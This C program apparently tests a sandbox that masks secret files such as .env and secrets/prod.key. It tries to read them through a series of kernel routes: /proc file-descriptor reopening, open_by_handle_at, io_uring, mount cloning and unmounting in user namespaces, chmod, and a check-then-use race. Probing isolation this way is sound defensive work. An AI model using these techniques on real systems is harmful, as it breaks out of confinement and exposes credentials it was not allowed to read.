// Attacks that need system calls no shell makes. Each prints what it could read or says why it could not.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *secrets[] = {".env", "secrets/prod.key", "config/api_TOKEN.txt", "data/innocent.txt", NULL};

static void note(const char *what) { printf("refused: %s: %s\n", what, strerror(errno)); }

static void show(int fd, const char *what) {
  char text[4096];
  if (fd < 0) { note(what); return; }
  ssize_t length = read(fd, text, sizeof text);
  if (length < 0) note(what); else printf("%s: %.*s\n", what, (int)length, text);
  close(fd);
}

static char *formatted(const char *format, const char *name, int number) {
  static char text[8192];
  snprintf(text, sizeof text, format, name, number);
  return text;
}

// A handle without the right to read, opened again through /proc.
static void opath(void) {
  for (const char **name = secrets; *name; name++) {
    int place = open(*name, O_PATH);
    if (place < 0) { note(*name); continue; }
    show(open(formatted("%s/%d", "/proc/self/fd", place), O_RDONLY), *name);
    if (linkat(AT_FDCWD, formatted("%s/%d", "/proc/self/fd", place), AT_FDCWD, "handle-link", AT_SYMLINK_FOLLOW)) note("linkat");
    else { show(open("handle-link", O_RDONLY), "handle-link"); unlink("handle-link"); }
  }
}

static void openat2_flags(void) {
  uint64_t resolves[] = {0, RESOLVE_BENEATH, RESOLVE_IN_ROOT, RESOLVE_NO_XDEV, RESOLVE_NO_SYMLINKS};
  int directory = open(".", O_PATH | O_DIRECTORY);
  for (unsigned i = 0; i < sizeof resolves / sizeof *resolves; i++)
    for (const char **name = secrets; *name; name++) {
      struct open_how how = {.flags = O_RDONLY, .resolve = resolves[i]};
      show(syscall(SYS_openat2, directory, *name, &how, sizeof how), *name);
    }
}

// The file by the number the file system knows it by, past every path.
static void handle(void) {
  struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } file = {.head.handle_bytes = MAX_HANDLE_SZ};
  int mount, directory = open(".", O_RDONLY | O_DIRECTORY);
  if (name_to_handle_at(AT_FDCWD, "secrets/../README.md", &file.head, &mount, 0)) note("name_to_handle_at");
  if (name_to_handle_at(AT_FDCWD, ".env", &file.head, &mount, 0)) { note("name_to_handle_at"); return; }
  show(open_by_handle_at(directory, &file.head, O_RDONLY), "open_by_handle_at");
}

// One operation through io_uring, past every filter on open and read.
static void *ring_memory(int ring, size_t size, off_t offset) {
  return mmap(0, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, offset);
}

static void uring(void) {
  struct io_uring_params params = {0};
  int ring = syscall(SYS_io_uring_setup, 4, &params);
  if (ring < 0) { note("io_uring_setup"); return; }
  char *sq = ring_memory(ring, params.sq_off.array + params.sq_entries * 4, IORING_OFF_SQ_RING);
  char *cq = ring_memory(ring, params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe), IORING_OFF_CQ_RING);
  struct io_uring_sqe *sqes = ring_memory(ring, params.sq_entries * sizeof *sqes, IORING_OFF_SQES);
  for (const char **name = secrets; *name; name++) {
    unsigned *tail = (unsigned *)(sq + params.sq_off.tail), mask = *(unsigned *)(sq + params.sq_off.ring_mask);
    unsigned slot = *tail & mask;
    sqes[slot] = (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)*name, .open_flags = O_RDONLY};
    ((unsigned *)(sq + params.sq_off.array))[slot] = slot;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) { note("io_uring_enter"); return; }
    unsigned *head = (unsigned *)(cq + params.cq_off.head);
    struct io_uring_cqe *done = (struct io_uring_cqe *)(cq + params.cq_off.cqes) + (*head & *(unsigned *)(cq + params.cq_off.ring_mask));
    int result = done->res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    if (result < 0) errno = -result;
    show(result, *name);
  }
}

// A copy of the mount without what is mounted on it.
static void open_tree_clone(void) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) note("unshare");
  const char *from[] = {".", "..", "/", NULL};
  for (const char **tree = from; *tree; tree++) {
    int copy = syscall(SYS_open_tree, AT_FDCWD, *tree, 1 /* OPEN_TREE_CLONE */);
    if (copy < 0) { note("open_tree"); continue; }
    const char *below[] = {".env", "work/.env", formatted("%s/.env", getenv("WS") + 1, 0)};
    for (int i = 0; i < 3; i++) show(openat(copy, below[i], O_RDONLY), below[i]);
  }
}

// Away with the mask.
static void unmount(void) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) note("unshare");
  const char *masks[] = {".env", "secrets", "data/innocent.txt", NULL};
  for (const char **mask = masks; *mask; mask++) {
    if (umount2(*mask, MNT_DETACH)) note("umount2");
    int tree = syscall(SYS_open_tree, AT_FDCWD, *mask, 0);
    if (tree < 0 || syscall(SYS_move_mount, tree, "", AT_FDCWD, "/tmp", 4 /* F_EMPTY_PATH */)) note("move_mount");
  }
  for (const char **name = secrets; *name; name++) show(open(*name, O_RDONLY), *name);
}

// A mask is a file of its own: with other modes it would still not be the secret, but try.
static void modes(void) {
  for (const char **name = secrets; *name; name++) {
    if (chmod(*name, 0777)) note("chmod");
    if (fchmodat(AT_FDCWD, *name, 0777, 0)) note("fchmodat");
    if (truncate(*name, 100)) note("truncate");
    show(open(*name, O_RDONLY), *name);
  }
  chmod("secrets", 0777);
  show(open("secrets/prod.key", O_RDONLY), "secrets/prod.key");
}

static volatile int stop;
static char *flipping;
static void *flip(void *unused) {
  while (!stop) { memcpy(flipping, "README.md", 10); memcpy(flipping, "secrets/prod.key", 17); }
  return 0;
}

// The path changes between a check and its use.
static void race(void) {
  flipping = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  strcpy(flipping, "README.md");
  pthread_t thread;
  pthread_create(&thread, 0, flip, 0);
  for (int i = 0; i < 40000; i++) {
    char text[64] = "";
    int fd = openat(AT_FDCWD, flipping, O_RDONLY);
    if (fd < 0) continue;
    read(fd, text, sizeof text - 1);
    close(fd);
    if (strstr(text, "CANARY")) { puts(text); break; }
  }
  stop = 1;
  pthread_join(thread, 0);
}

// Names exchanged in one step, which needs no moment in which one is missing.
static void exchange(const char *from, const char *to) {
  if (renameat2(AT_FDCWD, from, AT_FDCWD, to, RENAME_EXCHANGE)) note("renameat2"); else puts("exchanged");
}

// Flags of a file that is open for reading only.
static void flags(const char *path) {
  int fd = open(path, O_RDONLY), value = 0;
  if (fd < 0 || ioctl(fd, FS_IOC_GETFLAGS, &value)) { note("getflags"); return; }
  value |= FS_NODUMP_FL;
  if (ioctl(fd, FS_IOC_SETFLAGS, &value)) note("setflags"); else puts("flags changed");
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  const char *what = argc > 1 ? argv[1] : "";
  if (!strcmp(what, "opath")) opath();
  else if (!strcmp(what, "openat2")) openat2_flags();
  else if (!strcmp(what, "handle")) handle();
  else if (!strcmp(what, "uring")) uring();
  else if (!strcmp(what, "open_tree")) open_tree_clone();
  else if (!strcmp(what, "unmount")) unmount();
  else if (!strcmp(what, "modes")) modes();
  else if (!strcmp(what, "race")) race();
  else if (!strcmp(what, "exchange")) exchange(argv[2], argv[3]);
  else if (!strcmp(what, "flags")) flags(argv[2]);
  else return 64;
  return 0;
}
